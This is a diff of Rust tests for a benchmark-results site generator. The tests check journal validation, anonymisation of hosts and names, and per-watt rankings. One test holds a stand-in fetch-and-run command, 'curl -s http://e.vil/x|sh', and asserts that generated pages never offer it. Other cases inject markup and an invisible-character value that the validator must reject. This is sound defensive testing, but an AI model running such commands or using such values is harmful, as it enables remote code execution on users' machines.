@@ -47,11 +47,20 @@ fn a_submitted_journal_is_whole_true_and_only_text() {
         (&|lines| drop(lines.pop()), "its last line is missing"),
         (&|lines| lines[cell]["scale"] = json!(2.0), "is not scored as in the catalogue"),
         (&|lines| lines[cell]["test"] = json!("fastest"), "the catalogue has no test 'fastest'"),
-        (&|lines| lines[0]["comment"] = json!("<img src=x>"), "line 1: a text that could be markup: '<img src=x>'"),
-        (&|lines| lines[0]["host"] = json!("a\u{202e}b"), "line 1: a text with invisible characters"),
+        (
+            &|lines| lines[0]["comment"] = json!("<img src=x>"),
+            "line 1: a text that could be markup: '<img src=x>'",
+        ),
+        (
+            &|lines| lines[0]["host"] = json!("a\u{202e}b"),
+            "line 1: a text with invisible characters",
+        ),
         (&|lines| lines[0]["comment"] = json!("x".repeat(4001)), "more than 4000 characters"),
         (&|lines| lines.insert(0, json!("a banner")), "line 1 is not part of a journal"),
-        (&|lines| lines[trial]["copies"][0]["slices"][0] = json!([9, 5, 1]), "overlap or run backwards"),
+        (
+            &|lines| lines[trial]["copies"][0]["slices"][0] = json!([9, 5, 1]),
+            "overlap or run backwards",
+        ),
         (&|lines| lines[trial]["copies"] = json!([]), "it has 0 of"),
     ];
     for (spoil, complaint) in cases {
@@ -76,17 +85,30 @@ fn what_a_page_offers_to_copy_runs_nothing_of_the_submitters() {
     let folder = place.root.path().join("runs");
     std::fs::create_dir(&folder).unwrap();
     let mut lines = recorded();
-    lines[0]["arguments"] =
-        json!(["run", "--meter", "curl -s http://e.vil/x|sh", "--program=/tmp/evil", "-c", "1,2", "index"]);
+    lines[0]["arguments"] = json!([
+        "run",
+        "--meter",
+        "curl -s http://e.vil/x|sh",
+        "--program=/tmp/evil",
+        "-c",
+        "1,2",
+        "index"
+    ]);
     std::fs::write(folder.join("one.jsonl"), text(&lines)).unwrap();
     assert_eq!(checked(&place, &text(&lines)).0, 0);
     let (www, ..) = site(&place, &folder, "www", "");
-    for (name, bytes) in files(&www).into_iter().filter(|(name, _)| name.extension().is_some_and(|end| end == "html")) {
+    for (name, bytes) in files(&www)
+        .into_iter()
+        .filter(|(name, _)| name.extension().is_some_and(|end| end == "html"))
+    {
         let page = testing::page::text(&String::from_utf8(bytes).unwrap());
         assert!(!page.contains("e.vil") && !page.contains("/tmp/evil"), "{}", name.display());
         if name.starts_with("r") {
             assert!(page.contains("unixmark run -c 1,2 index"), "{page}");
-            assert!(page.contains("--meter and --program: what is not a name or a number"), "{page}");
+            assert!(
+                page.contains("--meter and --program: what is not a name or a number"),
+                "{page}"
+            );
         }
     }
 }
@@ -96,14 +118,16 @@ fn an_anonymous_site_names_nobody() {
     let place = Place::new();
     let folder = place.root.path().join("runs");
     std::fs::create_dir(&folder).unwrap();
-    let secrets = ["hushhost", "mallory", "bluebird", "10.20.30.40", "52:54:00:ab:cd:ef", "SN12345678"];
+    let secrets =
+        ["hushhost", "mallory", "bluebird", "10.20.30.40", "52:54:00:ab:cd:ef", "SN12345678"];
     let mut lines = recorded();
     lines[0]["host"] = json!("hushhost.example.org");
     lines[0]["name"] = json!("hushhost.example.org-2026-11-21-01");
     lines[0]["comment"] = json!("bluebird's own");
     lines[0]["arguments"] = json!(["run", "index", "--dir", "/home/mallory/x"]);
     let trial = first(&lines, "trial");
-    lines[trial]["copies"][0]["notes"] = json!(["served by 10.20.30.40 and hushhost (52:54:00:ab:cd:ef)"]);
+    lines[trial]["copies"][0]["notes"] =
+        json!(["served by 10.20.30.40 and hushhost (52:54:00:ab:cd:ef)"]);
     let fact = |name: &str, value: &str| json!({"type": "fact", "name": name, "label": name, "group": "System", "value": value});
     lines.insert(1, fact("system.user", "mallory"));
     lines.insert(1, fact("system.serial", "SN12345678"));
@@ -113,44 +137,22 @@ fn an_anonymous_site_names_nobody() {
     assert!(status == 0 && said.contains("hosts ") && said.contains("comments 1 time,"), "{said}");
     for (name, bytes) in files(&www) {
         let content = String::from_utf8(bytes).unwrap();
-        let named =
-            secrets.iter().find(|secret| content.contains(**secret) || name.display().to_string().contains(**secret));
+        let named = secrets.iter().find(|secret| {
+            content.contains(**secret) || name.display().to_string().contains(**secret)
+        });
         assert_eq!(named, None, "{}", name.display());
     }
     // The figures are the same.
     let (open, ..) = site(&place, &folder, "open", "");
     let values = |www: &std::path::Path| {
         let csv = std::fs::read_to_string(www.join("runs.csv")).unwrap();
-        csv.lines().map(|line| line.split(',').skip(5).collect::<Vec<_>>().join(",")).collect::<Vec<String>>()
+        csv.lines()
+            .map(|line| line.split(',').skip(5).collect::<Vec<_>>().join(","))
+            .collect::<Vec<String>>()
     };
     assert_eq!(values(&www), values(&open));
     let again = site(&place, &folder, "www", "--anonymous").2;
     assert!(again.contains("0 of them new"), "the same host has the same alias: {again}");
-}
-
-#[test]
-fn a_run_has_pictures_for_other_pages() {
-    let place = Place::new();
-    let folder = place.root.path().join("runs");
-    std::fs::create_dir(&folder).unwrap();
-    std::fs::write(folder.join("one.jsonl"), text(&recorded())).unwrap();
-    let (www, ..) = site(&place, &folder, "www", "--url https://example.org/results/");
-    let found = files(&www.join("r"));
-    let of = |end: &str| {
-        let (_, bytes) = found.iter().find(|(name, _)| name.display().to_string().ends_with(end)).unwrap();
-        String::from_utf8(bytes.clone()).unwrap()
-    };
-    let is_badge = |name: &&std::path::PathBuf| {
-        let name = name.display().to_string();
-        name.ends_with(".svg") && !name.ends_with(".chart.svg")
-    };
-    let badge = found.keys().find(is_badge).unwrap();
-    let badge = std::fs::read_to_string(www.join("r").join(badge)).unwrap();
-    assert!(badge.starts_with("<svg xmlns=") && badge.contains("1120 ±14% (1 copy), 2520 ±13% (2 copies)"), "{badge}");
-    assert!(of(".chart.svg").contains("Dhrystone 2 using register variables"));
-    let page = of(".html");
-    assert!(page.contains("property=\"og:description\" content=\""), "what shows previews has nothing to show");
-    assert!(page.contains("[![unixmark](https://example.org/results/r/"), "no badge to copy");
 }
 
 /// Counters and a wall socket do not see the same: each has a ranking of its own.
@@ -161,7 +163,8 @@ fn the_index_per_watt_is_of_what_was_measured() {
     let with = |number: usize, source: &str, watts: f64| {
         let path = folder.join(format!("{:.2}{number}.jsonl", super::GCC));
         let journal = std::fs::read_to_string(&path).unwrap();
-        let mut lines: Vec<Value> = journal.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+        let mut lines: Vec<Value> =
+            journal.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
         for trial in lines.iter_mut().filter(|line| line["type"] == "trial") {
             trial["energy"] = json!({"joules": watts / 4.0, "seconds": 0.25});
         }
@@ -175,7 +178,9 @@ fn the_index_per_watt_is_of_what_was_measured() {
     assert_eq!(status, 0, "{said}");
     let csv = std::fs::read_to_string(www.join("runs.csv")).unwrap();
     let value = |host: &str, measure: &str| {
-        let fits = |line: &&str| line.split(',').nth(2) == Some(host) && line.split(',').nth(5) == Some(measure);
+        let fits = |line: &&str| {
+            line.split(',').nth(2) == Some(host) && line.split(',').nth(5) == Some(measure)
+        };
         csv.lines().find(fits).map(|line| line.split(',').nth(8).unwrap().parse::<f64>().unwrap())
     };
     for (host, measure, watts) in [("a", "powercap", 8.0), ("b", "meter", 50.0)] {
@@ -184,40 +189,11 @@ fn the_index_per_watt_is_of_what_was_measured() {
         assert!((per_watt * watts / index - 1.0).abs() < 1e-4, "{host}: {per_watt}");
     }
     assert_eq!(value("a", "index.system per watt by meter"), None);
-    let offers =
-        |bytes: &Vec<u8>| String::from_utf8_lossy(bytes).contains("System Benchmarks index per watt by powercap");
+    let offers = |bytes: &Vec<u8>| {
+        String::from_utf8_lossy(bytes).contains("System Benchmarks index per watt by powercap")
+    };
     assert!(
         files(&www).iter().any(|(path, bytes)| path.ends_with("data/site.js") && offers(bytes)),
         "it is not offered"
     );
-}
-
-#[test]
-fn prices_and_watts_divide_the_index() {
-    let place = Place::new();
-    let folder = super::six(&place);
-    let prices = place.root.path().join("prices.toml");
-    let write = |text: &str| std::fs::write(&prices, text).unwrap();
-    let options = format!("--prices {}", prices.display());
-    write(
-        "[[system]]\nhost = \"a\"\nper_hour = 0.5\ncurrency = \"EUR\"\nwatts = 4\n[[system]]\nhost = \"f\"\nwatts = 1\n",
-    );
-    let (www, status, said) = site(&place, &folder, "www", &options);
-    assert_eq!(status, 0, "{said}");
-    let csv = std::fs::read_to_string(www.join("runs.csv")).unwrap();
-    let value = |host: &str, measure: &str| {
-        let fits = |line: &&str| line.split(',').nth(2) == Some(host) && line.split(',').nth(5) == Some(measure);
-        csv.lines().find(fits).map(|line| line.split(',').nth(8).unwrap().parse::<f64>().unwrap())
-    };
-    let index = value("a", "index.system").unwrap();
-    assert_eq!(value("a", "index.system per EUR an hour"), Some(index / 0.5));
-    assert_eq!(value("a", "index.system per watt"), Some(index / 4.0));
-    assert_eq!(value("f", "index.system per EUR an hour"), None, "what is not known is not there");
-    for (wrong, complaint) in
-        [("per_hour = -1", "must be above 0"), ("per_hour = 1", "no currency"), ("cost = 1", "cannot be read")]
-    {
-        write(&format!("[[system]]\nhost = \"a\"\n{wrong}\n"));
-        let (_, status, said) = site(&place, &folder, "www", &options);
-        assert!(status == 2 && said.contains(complaint), "{wrong}: {said}");
-    }
 }
